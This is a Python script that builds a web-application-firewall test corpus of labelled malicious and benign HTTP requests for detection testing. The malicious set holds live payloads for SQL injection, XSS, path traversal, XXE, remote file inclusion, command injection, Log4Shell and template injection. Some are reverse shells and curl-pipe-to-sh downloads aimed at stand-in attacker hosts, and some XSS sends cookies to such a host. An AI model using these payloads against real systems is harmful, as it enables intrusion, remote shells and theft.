#!/usr/bin/env python3
"""Generates the WAF corpus (malicious.jsonl, benign.jsonl) — one request per line:
  {"id": "...", "class": "sqli|xss|...|benign-...", "method": "GET", "uri": "/...", "headers": [["host", "..."], ...],
   "body": "..."}
Run: python3 tests/waf/corpus/generate.py  (rewrites both files next to this script; deterministic)."""
import json, os, urllib.parse

HERE = os.path.dirname(os.path.abspath(__file__))
UA = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"
BASE = [["host", "shop.example.com"], ["user-agent", UA], ["accept", "text/html,application/xhtml+xml,*/*;q=0.8"]]

def q(s):  # percent-encode like a browser form (space → +)
    return urllib.parse.quote_plus(s, safe="")

def pct(s):  # percent-encode everything but unreserved
    return urllib.parse.quote(s, safe="")

def dbl(s):  # double percent-encoding
    return pct(pct(s))

def uenc(s):  # IIS %uXXXX for every non-alphanumeric char
    return "".join(c if c.isalnum() else "%%u%04X" % ord(c) for c in s)

def ent(s):  # HTML numeric entities for <>"'
    return "".join("&#x%X;" % ord(c) if c in "<>\"'()" else c for c in s)

def req(cls, uri, method="GET", headers=None, body="", ctype=None, extra=None, drop=None):
    h = [list(x) for x in BASE if not (drop and x[0] in drop)]
    if ctype:
        h.append(["content-type", ctype])
    for x in (extra or []):
        h.append(list(x))
    return {"class": cls, "method": method, "uri": uri, "headers": h if headers is None else headers, "body": body}

def get(cls, param, value, path="/search", enc=q):
    return req(cls, f"{path}?{param}={enc(value)}")

def form(cls, fields):
    body = "&".join(f"{k}={q(v)}" for k, v in fields)
    return req(cls, "/account/update", "POST", body=body, ctype="application/x-www-form-urlencoded")

def js(cls, obj, path="/api/v1/items"):
    return req(cls, path, "POST", body=json.dumps(obj), ctype="application/json")

def cookie(cls, value, name="session"):
    return req(cls, "/profile", extra=[["cookie", f"theme=dark; {name}={value}"]])

mal = []
# ---------------------------------------------------------------- SQL injection
sqli = [
    "' OR '1'='1", "' or 1=1--", "admin'--", "1 OR 1=1", "1' AND '1'='1", "' OR 'x'='x'#", "\" or \"\"=\"",
    "1 UNION SELECT username, password FROM users", "-1 UNION ALL SELECT 1,2,3--", "1' UNION SELECT null,@@version--",
    "' UNION/**/SELECT/**/table_name/**/FROM/**/information_schema.tables--", "1;DROP TABLE users--",
    "1'; DELETE FROM orders WHERE '1'='1", "'; INSERT INTO admins VALUES('x','y')--", "1; EXEC xp_cmdshell('dir')",
    "1' AND SLEEP(5)--", "1 AND BENCHMARK(5000000,MD5(1))", "'; WAITFOR DELAY '0:0:5'--", "1) OR pg_sleep(5)--",
    "' AND extractvalue(1,concat(0x7e,version()))--", "' AND updatexml(1,concat(0x7e,user()),1)--",
    "1' ORDER BY 3--", "1 GROUP BY 1,2 HAVING 1=1--", "' HAVING 1=1--", "admin' #", "x' AND 1=(SELECT COUNT(*) FROM users)--",
    "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--", "' OR EXISTS(SELECT * FROM users)--",
    "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)", "' UNION SELECT load_file('/etc/passwd')--",
    "' INTO OUTFILE '/var/www/shell.php'--", "1' or '1' like '1", "' OR 1 --", "') OR ('a'='a", "')) OR 1=1--",
    "1 oR 1=1", "uNiOn SeLeCt 1,2", "1'/**/OR/**/'1'='1", "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2",
    "' || '1'='1", "1' && '1'='1", "'; SHUTDOWN--", "1; UPDATE users SET role='admin'--",
    "' UNION SELECT name FROM sqlite_master--", "' AND 1=CONVERT(int,@@version)--", "1 AND 1=2 UNION SELECT 1,group_concat(schema_name) FROM information_schema.schemata",
    "'; DECLARE @q VARCHAR(99); EXEC(@q)--", "' OR username IS NOT NULL--", "1' AND (SELECT pg_sleep(10))--",
    "' or true--", "admin')--", "1;SELECT * FROM pg_shadow", "' AND 1=dbms_pipe.receive_message('a',10)--",
]
for i, p in enumerate(sqli):
    enc = [q, pct, dbl, uenc][i % 4] if i % 5 else q
    mal.append(get("sqli", ["id", "q", "user", "item"][i % 4], p, enc=enc))
for p in sqli[:10]:
    mal.append(form("sqli", [("name", "x"), ("email", p)]))
for p in sqli[10:18]:
    mal.append(js("sqli", {"filter": {"name": p}, "limit": 10}))
for p in sqli[18:24]:
    mal.append(cookie("sqli", pct(p), "uid"))
# ---------------------------------------------------------------- XSS
xss = [
    "<script>alert(1)</script>", "<ScRiPt>alert(document.cookie)</sCrIpT>", "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "\"><script>alert(1)</script>", "'><img src=x onerror=prompt(1)>",
    "<body onload=alert('xss')>", "<iframe src=javascript:alert(1)>", "javascript:alert(document.domain)",
    "<a href=\"javascript:alert(1)\">x</a>", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "<object data=\"javascript:alert(1)\">",
    "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">", "<math><mtext><script>alert(1)</script>",
    "<video><source onerror=\"alert(1)\">", "<marquee onstart=alert(1)>", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<scr<script>ipt>alert(1)</script>", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<img src=1 href=1 onerror=\"javascript:alert(1)\"></img>", "<audio src=x onerror=alert(1)>",
    "<x onclick=alert(1)>click", "<base href=\"javascript:alert(1)//\">", "<link rel=import href=data:text/html,x>",
    "<div style=\"background:url(javascript:alert(1))\">", "java\tscript:alert(1)", "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<form action=javascript:alert(1)><input type=submit>", "<isindex action=javascript:alert(1) type=image>",
    "\"><svg onload=alert`1`>", "<select onfocus=alert(1) autofocus>", "<textarea onfocus=alert(1) autofocus>",
    "data:text/html,<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "</title><script>alert(1)</script>",
    "<img src=\"x\" onerror=\"fetch('//evil.example/'+document.cookie)\">", "<body onpageshow=alert(1)>",
]
for i, p in enumerate(xss):
    enc = [q, pct, dbl, uenc, lambda s: q(ent(s))][i % 5]
    mal.append(get("xss", ["q", "comment", "name", "redirect"][i % 4], p, enc=enc))
for p in xss[:8]:
    mal.append(form("xss", [("title", "hello"), ("comment", p)]))
for p in xss[8:14]:
    mal.append(js("xss", {"profile": {"bio": p, "age": 30}}))
for p in xss[14:18]:
    mal.append(req("xss", "/page", extra=[["referer", "https://shop.example.com/?q=" + p]]))
mal.append(get("xss", "q", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", enc=q))
mal.append(get("xss", "q", "&lt;script&gt;alert(1)&lt;/script&gt;", enc=q))
mal.append(req("xss", "/search/%3Cscript%3Ealert(1)%3C%2Fscript%3E"))
# ---------------------------------------------------------------- LFI / path traversal
lfi = [
    "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "....//....//etc/passwd", "/etc/shadow",
    "..\\..\\..\\windows\\win.ini", "../../../../../../boot.ini", "/proc/self/environ", "../../../../var/log/apache2/access.log",
    "php://filter/convert.base64-encode/resource=index.php", "file:///etc/passwd", "phar://uploads/avatar.jpg/x",
    "zip://uploads/a.zip#shell.php", "expect://id", "../../wp-config.php", "..%c0%af..%c0%afetc%c0%afpasswd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fhosts", "../../../.ssh/id_rsa", "/var/www/../../etc/group",
    "C:\\Windows\\System32\\drivers\\etc\\hosts", "../../.env", "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+",
    "/.htpasswd", "..;/..;/WEB-INF/web.xml", "../../../../proc/version", "....\\\\....\\\\windows\\\\system.ini",
]
for i, p in enumerate(lfi):
    mal.append(get("lfi", ["file", "page", "path", "doc", "template"][i % 5], p, enc=[q, pct, dbl][i % 3]))
for u in ["/static/..%2f..%2f..%2fetc%2fpasswd", "/.git/config", "/.env", "/backup/db.sql", "/index.php.bak",
          "/config/.htaccess", "/download?file=..%252f..%252fetc%252fpasswd", "/app/config.ini", "/.aws/credentials",
          "/server-status/../../../../etc/shadow"]:
    mal.append(req("lfi", u))
mal.append(req("lfi", "/api/import", "POST", body='<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', ctype="application/xml"))
mal.append(req("lfi", "/api/import", "POST", body='<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "http://evil.example/x.dtd"> ]><foo>&xxe;</foo>', ctype="text/xml"))
# ---------------------------------------------------------------- RFI
rfi = [
    ("page", "http://203.0.113.7/shell.txt?"), ("file", "https://evil.example/backdoor.php"), ("include", "http://evil.example/r57.txt"),
    ("template", "ftp://198.51.100.2/x.txt"), ("url", "http://192.0.2.44/c99.php"), ("path", "https://attacker.example/shell.txt?"),
    ("lang", "http://evil.example/en.txt%00"), ("module", "http://evil.example/mod"), ("doc", "http://10.0.0.5/x"),
    ("load", "https://evil.example/payload.txt?"), ("config", "http://evil.example/config.inc"), ("next", "http://198.51.100.9/"),
    ("layout", "http://evil.example/layout.txt"), ("src", "http://203.0.113.50/x.js?"), ("view", "ftp://evil.example/view.txt"),
    ("site", "http://evil.example"), ("inc", "http://evil.example/inc.txt"), ("dir", "https://evil.example/x?"),
    ("redirect", "http://127.0.0.1:22/"), ("conf", "https://evil.example/x.php"),
]
for i, (n, v) in enumerate(rfi):
    mal.append(get("rfi", n, v, path="/index.php", enc=[q, pct][i % 2]))
# ---------------------------------------------------------------- OS command injection
rce = [
    "; cat /etc/passwd", "| id", "&& whoami", "`id`", "$(whoami)", "; ls -la /", "127.0.0.1; uname -a",
    "127.0.0.1 | nc -e /bin/sh 203.0.113.7 4444", "x; wget http://evil.example/x.sh -O /tmp/x", "x && curl http://evil.example/a | sh",
    "; bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "|| ping -c 10 127.0.0.1", "; sleep 10", "a;c''at${IFS}/etc/passwd",
    "a|w'h'o'am'i", ";/bin/busybox telnetd", "%0aid", "; rm -rf /tmp/*", "& dir c:\\", "| type C:\\boot.ini",
    "& net user hacker P@ss /add", "; powershell -enc SQBFAFgA", "| cmd.exe /c whoami", "; python -c 'import os;os.system(\"id\")'",
    "; perl -e 'exec \"/bin/sh\"'", "$(curl -s evil.example/x|bash)", "`uname -a`", "; echo $(id)", "|| /usr/bin/id",
    "; chmod +x /tmp/x; /tmp/x", "x;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 80 >/tmp/f",
    "; ncat 203.0.113.7 4444 -e /bin/bash", "x$(id)", "1;env", "; cat$IFS/etc/shadow", "|certutil -urlcache -f http://evil.example/x.exe x.exe",
]
for i, p in enumerate(rce):
    mal.append(get("rce", ["host", "ip", "cmd", "file"][i % 4], p, path="/tools/ping", enc=[q, pct, dbl][i % 3]))
mal.append(req("rce", "/cgi-bin/status", extra=[["user-agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'"]], drop=["user-agent"]))
mal.append(req("rce", "/cgi-bin/test.cgi", extra=[["referer", "() { ignored; }; echo; /usr/bin/id"]]))
mal.append(form("rce", [("hostname", "example.com; cat /etc/passwd")]))
mal.append(js("rce", {"target": "8.8.8.8 && curl http://evil.example/s.sh | sh"}))
# ---------------------------------------------------------------- PHP injection
php = [
    "<?php system($_GET['c']); ?>", "<?= shell_exec('id') ?>", "system('id')", "passthru('ls')", "phpinfo()",
    "eval(base64_decode('ZWNobyAxOw=='))", "${@print(md5(1))}", "assert($_POST['x'])", "file_put_contents('x.php','<?php')",
    "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}", "create_function('', 'system(\"id\");')", "preg_replace('/.*/e', 'system(\"id\")', '')",
    "$_SERVER['HTTP_USER_AGENT']", "call_user_func('system','id')", "proc_open('id',[],$p)", "gzinflate(base64_decode('x'))",
    "highlight_file('/etc/passwd')", "str_rot13('flfgrz')", "popen('id','r')", "O:4:\"User\":2:{s:4:\"role\";s:5:\"admin\";}",
]
for i, p in enumerate(php):
    mal.append(get("php", ["q", "data", "code", "x"][i % 4], p, path="/index.php", enc=[q, pct][i % 2]))
mal.append(cookie("php", pct("O:9:\"UserPrefs\":1:{s:5:\"admin\";b:1;}"), "prefs"))
mal.append(form("php", [("comment", "<?php echo shell_exec($_GET['cmd']); ?>")]))
# ---------------------------------------------------------------- Java / Log4Shell / OGNL
java = [
    "${jndi:ldap://evil.example/a}", "${jndi:rmi://203.0.113.7:1099/x}", "${${lower:j}ndi:${lower:l}dap://evil.example/x}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/z}", "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://evil.example/y}",
    "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
    "T(java.lang.Runtime).getRuntime().exec('id')", "new java.lang.ProcessBuilder('id').start()",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", "java.lang.Runtime.getRuntime().exec(\"calc\")",
    "${jndi:dns://evil.example/q}", "#{T(java.lang.System).getenv()}", "(#context['xwork.MethodAccessor.denyMethodExecution']=false)",
    "javax.script.ScriptEngineManager",
]
for i, p in enumerate(java):
    mal.append(get("java", ["q", "name", "x"][i % 3], p, enc=[q, pct][i % 2]))
mal.append(req("java", "/", extra=[["x-api-version", "${jndi:ldap://evil.example/a}"]]))
mal.append(req("java", "/login", extra=[["user-agent", "${jndi:ldap://203.0.113.7:1389/Exploit}"]], drop=["user-agent"]))
mal.append(req("java", "/upload.action", "POST", body="x", ctype="%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}"))
mal.append(req("java", "/", extra=[["x-forwarded-for", "${${upper:j}ndi:ldap://evil.example/b}"]]))
mal.append(js("java", {"user": "${jndi:ldap://evil.example/c}"}))
# ---------------------------------------------------------------- template / Node.js injection
tpl = [
    "{{7*7}}", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "${7*7}", "#{7*7}",
    "{{self.__init__.__globals__.__builtins__}}", "{% import os %}{{ os.popen('id').read() }}", "<%= 7*7 %>",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", "{{lipsum.__globals__.os.popen('id').read()}}",
    "*{T(java.lang.Runtime).getRuntime().exec('id')}", "{{constructor.constructor('return process')()}}",
    "require('child_process').exec('id')", "process.mainModule.require('child_process')", "{\"__proto__\":{\"isAdmin\":true}}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}", "${{7*7}}", "{{ 1337*1337 }}",
]
for i, p in enumerate(tpl):
    mal.append(get("template", ["name", "greeting", "q"][i % 3], p, path="/render", enc=[q, pct][i % 2]))
mal.append(js("template", {"__proto__": {"admin": True}}, path="/api/v1/settings"))
mal.append(js("template", {"constructor": {"prototype": {"admin": True}}, "x": "constructor.prototype"}, path="/api/v1/settings"))
# ---------------------------------------------------------------- scanners
for ua in ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.0 (compatible; Nikto/2.1.6)", "Nmap Scripting Engine",
           "Mozilla/5.0 Acunetix-WVS", "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
           "gobuster/3.6", "Fuzz Faster U Fool v2.1.0 (ffuf)", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
           "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "Wfuzz/3.1.0", "DirBuster-1.0-RC1",
           "Mozilla/5.0 (compatible; Netsparker)", "zgrab/0.x", "w3af.org", "commix/v3.8"]:
    mal.append(req("scanner", "/", headers=[["host", "shop.example.com"], ["user-agent", ua], ["accept", "*/*"]]))
mal.append(req("scanner", "/", extra=[["acunetix-product", "WVS/12"]]))
mal.append(req("scanner", "/", extra=[["x-scanner", "Netsparker"]]))
# ---------------------------------------------------------------- protocol anomalies
mal.append(req("protocol", "/", headers=[["user-agent", UA], ["accept", "*/*"]]))
mal.append(req("protocol", "/index.html", headers=[["user-agent", "curl/8.0"]]))
mal.append(req("protocol", "/search?q=%zz%"))
mal.append(req("protocol", "/a%gg/b"))
mal.append(req("protocol", "/search?q=abc%2"))
mal.append(req("protocol", "/file?name=report.pdf%00.php"))
mal.append(req("protocol", "/", "TRACE"))
mal.append(req("protocol", "/", "TRACK"))
mal.append(req("protocol", "/", "DEBUG"))
mal.append(req("protocol", "/redirect?to=%0d%0aSet-Cookie:%20admin=1"))
mal.append(req("protocol", "/page?lang=en%0d%0aLocation:%20http://evil.example"))
mal.append(form("protocol", [("name", "a\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK")]))
mal.append(req("protocol", "/search?q=%u003zscript"))
mal.append(req("protocol", "/download?file=a.txt%00"))
mal.append(req("protocol", "/site.sql"))
mal.append(req("protocol", "/db/backup.old"))

# ======================================================================== benign, risky-looking
ben = []
prose = [
    "Please select the items from the list below", "Drop me a line if you have questions", "Union Station to Grand Central",
    "I'd like to update my order and delete the old address", "Where can I insert a new page into the document?",
    "Tom & Jerry", "rock 'n' roll", "Let's meet at O'Hare or Midway", "select all that apply", "order by price, then by date",
    "The union of two sets is a set", "1 or 2 people", "either this or that", "and/or", "50% off everything",
    "C++ vs C# vs Java", "Q&A session", "It's 5 o'clock somewhere", "O'Reilly books on SQL", "what does SELECT * FROM do",
    "How do I drop a table in SQL?", "script writing tips", "JavaScript tutorial for beginners", "alert levels and warnings",
    "the document.cookie property explained", "Can't login — it says 'invalid password'", "I can't \"believe\" it",
    "email me at jane.o'neil@example.com", "2 + 2 = 4", "x = y * 3", "price < 100 and rating > 4", "a <= b",
    "he said: \"don't\"", "dir", "cat videos", "ls", "find my order", "where is my package?", "sleep tips for babies",
    "bash festival 2024", "python or ruby?", "the /etc directory on linux", "copy & paste", "exec summary",
    "Macy's Thanksgiving Day Parade", "Why doesn't my 'select' element work?", "10' x 12' room", "5'11\" tall",
    "Rock & Roll Hall of Fame", "#1 best seller", "-- no comment --", "100 % cotton", "ab/cd/ef", "<3 love it",
    "I <3 NY", "a > b", "TCP/IP & DNS", "1; 2; 3", "email|phone", "yes | no", "cats & dogs; birds too",
    "java developer jobs", "onboarding checklist", "online=true", "Union Pacific railroad", "from A to B",
    "Select Comfort mattress", "Drop-down menu", "table for two", "Truncate long titles", "create an account",
    "shutdown procedure for the office", "Benchmark results 2024", "what is 7*7", "{{ handlebars }} templates",
    "${HOME} variable", "the sum of 1+1", "vi vs emacs", "system requirements", "Please include the file",
    "Order #12345", "hello world", "São Paulo", "Zürich", "naïve café", "北京", "Ελληνικά", "🙂 smile",
]
for i, p in enumerate(prose):
    ben.append(get("benign-prose", ["q", "comment", "search", "title"][i % 4], p))
names = ["O'Brien", "D'Angelo", "Shaquille O'Neal", "Miles O'Keefe", "N'Golo Kanté", "Ng'ang'a", "Jean-Luc Picard",
         "Mary-Kate O'Connor", "d'Artagnan", "L'Oréal", "Rosie O'Donnell", "Conan O'Brien", "Dell'Olio", "Sinéad O'Connor",
         "Robert'); drop", "Anne-Marie", "Björk Guðmundsdóttir", "José Martínez", "Van der Berg", "Select Smith"]
for n in names[:14] + names[15:]:
    ben.append(form("benign-names", [("first_name", n.split(" ")[0]), ("last_name", n), ("city", "St. John's")]))
    ben.append(get("benign-names", "name", n, path="/users"))
urls = ["https://example.com/", "https://www.example.org/path/to/page?x=1&y=2", "http://shop.example.com/cart",
        "https://cdn.example.net/img/a.png", "https://accounts.example.com/oauth/callback?code=abc123&state=xyz",
        "https://shop.example.com/checkout/success", "https://example.com/a?next=%2Fhome", "http://localhost:3000/cb",
        "https://docs.example.com/en/latest/?q=select", "https://github.com/org/repo/blob/main/README.md",
        "https://maps.example.com/?ll=40.7,-74.0&z=12", "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
        "https://example.com/search?q=union+station", "https://example.com/#/route/1", "mailto:support@example.com",
        "https://sub.shop.example.com/x", "https://example.com/file.pdf", "https://example.co.uk/price?gbp=10"]
for i, u in enumerate(urls):
    ben.append(get("benign-urls", ["redirect", "next", "return_to", "url", "callback", "ref"][i % 6], u, path="/login"))
    ben.append(js("benign-urls", {"link": u, "title": "My bookmark"}, path="/api/v1/bookmarks"))
code = [
    {"language": "python", "snippet": "import os\nprint(os.path.join('a', 'b'))"},
    {"language": "javascript", "snippet": "const x = items.filter(i => i.price < 10).map(i => i.name);"},
    {"language": "sql", "snippet": "SELECT name, email FROM customers WHERE id = ?"},
    {"language": "sql", "snippet": "-- list users\nSELECT * FROM users ORDER BY created_at DESC"},
    {"language": "js", "snippet": "function add(a, b) { return a + b; }\nconsole.log(add(1, 2));"},
    {"language": "bash", "snippet": "for f in *.txt; do echo \"$f\"; done"},
    {"language": "c", "snippet": "#include <stdio.h>\nint main(void) { printf(\"hi\\n\"); return 0; }"},
    {"language": "go", "snippet": "func main() { fmt.Println(\"hello\") }"},
    {"language": "html", "snippet": "<p>Hello <b>world</b></p>"},
    {"language": "css", "snippet": ".btn { color: red; margin: 0 auto; }"},
    {"language": "python", "snippet": "def greet(name):\n    return f'Hello, {name}!'"},
    {"language": "java", "snippet": "public class Hello { public static void main(String[] a) { System.out.println(\"hi\"); } }"},
    {"language": "rust", "snippet": "fn main() { let v: Vec<i32> = vec![1, 2, 3]; println!(\"{:?}\", v); }"},
    {"language": "regex", "snippet": "^[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}$"},
    {"language": "json", "snippet": "{\"a\": [1, 2, {\"b\": null}]}"},
    {"language": "yaml", "snippet": "server:\n  port: 8080\n  host: 0.0.0.0"},
    {"language": "markdown", "snippet": "# Title\n\n* item one\n* item two\n\n`code` and **bold**"},
    {"language": "sql", "snippet": "UPDATE products SET price = price * 1.1 WHERE category = 'books'"},
    {"language": "js", "snippet": "if (a && b || c) { x = y ? 1 : 2; }"},
    {"language": "python", "snippet": "with open('data.csv') as f:\n    rows = list(csv.reader(f))"},
    {"language": "handlebars", "snippet": "<p>{{user.name}}</p>{{#each items}}<li>{{this}}</li>{{/each}}"},
    {"language": "shell", "snippet": "git commit -m 'fix: typo'"},
    {"language": "js", "snippet": "await fetch('/api/items', { method: 'POST', body: JSON.stringify(data) })"},
    {"language": "python", "snippet": "time.sleep(1)"},
    {"language": "sql", "snippet": "INSERT INTO logs (level, msg) VALUES ('info', 'started')"},
]
for i, c in enumerate(code):
    ben.append(js("benign-code", {"post": {"title": "Snippet %d" % i, "body": c}, "tags": ["code", c["language"]]}, path="/api/v1/posts"))
    ben.append(js("benign-code", {"comment": "Here is my code: " + c["snippet"], "author": "Pat O'Hara"}, path="/api/v1/comments"))
import base64, hashlib
for i in range(30):
    h = hashlib.sha256(str(i).encode()).digest()
    jwt = base64.urlsafe_b64encode(json.dumps({"alg": "HS256", "typ": "JWT"}).encode()).decode().rstrip("=") + "." + \
          base64.urlsafe_b64encode(json.dumps({"sub": str(1000 + i), "name": "User %d" % i, "iat": 1700000000 + i}).encode()).decode().rstrip("=") + "." + \
          base64.urlsafe_b64encode(h).decode().rstrip("=")
    blob = base64.b64encode(h * (4 + i % 8)).decode()
    c = f"_ga=GA1.2.{123456789 + i}.{1700000000 + i}; _gid=GA1.2.98765.1700000000; session={jwt}; prefs={pct(json.dumps({'theme': 'dark', 'lang': 'en-US', 'items': list(range(i % 6))}))}; cart={blob}; consent=analytics%3Dtrue%26ads%3Dfalse"
    ben.append(req("benign-cookies", "/account", extra=[["cookie", c]]))
forms = [
    [("message", "Hi, I'd like to return my order #123. It's the wrong size; can you help?"), ("email", "a.b@example.com")],
    [("address", "12 O'Connell St., Apt #4"), ("zip", "02134"), ("phone", "+1 (555) 010-9999")],
    [("review", "5/5 — great product! Would buy again & again."), ("rating", "5")],
    [("search", "laptop 16gb ram < $1000"), ("sort", "price_asc")],
    [("bio", "Software engineer. I write C++, Python & SQL. Opinions are my own.")],
    [("password", "P@ssw0rd!'\"#$%"), ("password_confirm", "P@ssw0rd!'\"#$%")],
    [("note", "Deliver between 9-5; ring the bell twice | leave at door if no answer")],
    [("question", "What's the difference between UNION and UNION ALL in SQL?")],
    [("title", "Re: your \"select\" query"), ("body", "Try using a WHERE clause and an index.")],
    [("feedback", "The page shows <b> tags literally, please fix")],
    [("comment", "I like this :) ; really <3")],
    [("q", "site:example.com filetype:pdf")],
    [("expr", "(a + b) * c / 2")],
    [("date", "2024-01-01"), ("time", "10:30"), ("tz", "America/New_York")],
    [("json", "{\"a\":1,\"b\":[true,false,null]}")],
    [("path", "docs/guide/intro.md"), ("branch", "main")],
    [("company", "AT&T"), ("role", "R&D lead")],
    [("text", "SELECT COUNT(*) is slow on big tables, any advice?")],
    [("msg", "see https://example.com/a?b=c&d=e for details")],
    [("cmd", "Please run the report for Q3 and email it"), ("when", "tomorrow; 9am")],
]
for f in forms:
    ben.append(form("benign-forms", f))
    ben.append(js("benign-forms", dict(f), path="/api/v1/contact"))
# 1 KB-ish article bodies
article = ("Our union meeting will select a new representative from the candidates. Please update your details and "
           "drop off the forms at the front desk, or email them. It's important that everyone's voice is heard; "
           "we'll order pizza. Questions? Ask Mr. O'Donnell or Ms. D'Souza. ") * 3
for i in range(15):
    ben.append(form("benign-long", [("subject", "Meeting %d" % i), ("body", article[: 400 + 40 * i])]))
paths = ["/", "/index.html", "/products/select-comfort-bed", "/blog/2024/01/how-to-drop-shipping",
         "/category/union-jack-flags", "/docs/sql/select-statement", "/users/o'brien", "/static/js/app.min.js",
         "/static/css/site.css?v=3", "/images/logo.svg", "/api/v1/items/123", "/search?q=", "/wiki/C%2B%2B",
         "/files/report%202024.pdf", "/tag/rock-n-roll", "/feed.xml", "/robots.txt", "/sitemap.xml", "/favicon.ico",
         "/en-us/help/contact", "/p/alert-system-installation", "/script-writing-course", "/about-us#team",
         "/cart?add=42&qty=2", "/compare?ids=1,2,3", "/a/b/c/d/e/f", "/api/v2/search?filter=price%3C100&sort=-date",
         "/events?from=2024-01-01&to=2024-12-31", "/news/2024/ceo-says-we-will-execute-the-plan", "/downloads/setup.exe",
         "/fr/cafe-creme", "/%E5%8C%97%E4%BA%AC", "/calc?expr=1%2B1", "/go?to=%2Fhome", "/media/video.mp4?t=30s"]
for p in paths:
    ben.append(req("benign-paths", p))
hdrs = [
    [["referer", "https://www.google.com/search?q=select+comfort+union+station"]],
    [["accept-language", "en-US,en;q=0.9,fr;q=0.8"]],
    [["x-requested-with", "XMLHttpRequest"]],
    [["authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.abc_DEF-123"]],
    [["if-none-match", "W/\"5e-abc\""]],
    [["x-forwarded-for", "198.51.100.7, 10.0.0.1"]],
    [["accept-encoding", "gzip, deflate, br"]],
    [["user-agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1"]],
    [["user-agent", "Googlebot/2.1 (+http://www.google.com/bot.html)"]],
    [["user-agent", "curl/8.4.0"]],
    [["user-agent", "python-requests/2.31.0"]],
    [["dnt", "1"], ["sec-fetch-mode", "navigate"], ["sec-ch-ua", "\"Chromium\";v=\"120\", \"Not?A_Brand\";v=\"8\""]],
    [["content-security-policy-report-only", "default-src 'self'; script-src 'self' https://cdn.example.com"]],
    [["x-custom", "$100 (approx.) & more"]],
    [["traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"]],
]
for h in hdrs:
    drop = ["user-agent"] if h[0][0] == "user-agent" else None
    ben.append(req("benign-headers", "/page", extra=h, drop=drop))
api = [
    ("PUT", "/api/v1/items/9", {"name": "Widget's \"Pro\" edition", "price": 19.99, "tags": ["a&b", "c|d"]}),
    ("PATCH", "/api/v1/users/1", {"bio": "I love SQL; it's my favourite language. SELECT * FROM life;"}),
    ("POST", "/api/v1/search", {"query": "drop shipping suppliers", "filters": {"price": {"lt": 100}}}),
    ("POST", "/api/v1/orders", {"items": [{"sku": "A-1", "qty": 2}], "note": "Leave at door & ring"}),
    ("POST", "/api/v1/messages", {"to": "ops", "text": "Deploy at 5pm; then run `make test` and check /health"}),
    ("DELETE", "/api/v1/items/9", None), ("OPTIONS", "/api/v1/items", None), ("HEAD", "/", None),
    ("POST", "/api/v1/events", {"type": "click", "target": "#select-plan", "ts": 1700000000}),
    ("POST", "/graphql", {"query": "query { user(id: 1) { name orders(first: 10) { id total } } }"}),
    ("POST", "/graphql", {"query": "mutation { updateUser(id: 1, input: {name: \"O'Neil\"}) { id } }"}),
    ("POST", "/api/v1/notes", {"text": "Remember: 1 + 1 = 2, and 2 * 3 = 6"}),
    ("POST", "/api/v1/notes", {"text": "Meeting notes: union reps & management; agenda: update pay, drop overtime"}),
    ("POST", "/api/v1/templates", {"subject": "Hello {{first_name}}", "body": "Your order {{order.id}} has shipped."}),
    ("POST", "/api/v1/config", {"path": "/var/www/html", "log_dir": "logs/app"}),
]
for m, p, b in api:
    if b is None:
        ben.append(req("benign-api", p, m))
    else:
        ben.append(req("benign-api", p, m, body=json.dumps(b), ctype="application/json"))

def write(name, items, prefix):
    with open(os.path.join(HERE, name), "w") as f:
        for i, r in enumerate(items):
            r = dict(r)
            r = {"id": "%s-%03d" % (prefix, i + 1), **r}
            f.write(json.dumps(r, ensure_ascii=False) + "\n")

write("malicious.jsonl", mal, "mal")
write("benign.jsonl", ben, "ben")
print(len(mal), "malicious,", len(ben), "benign")
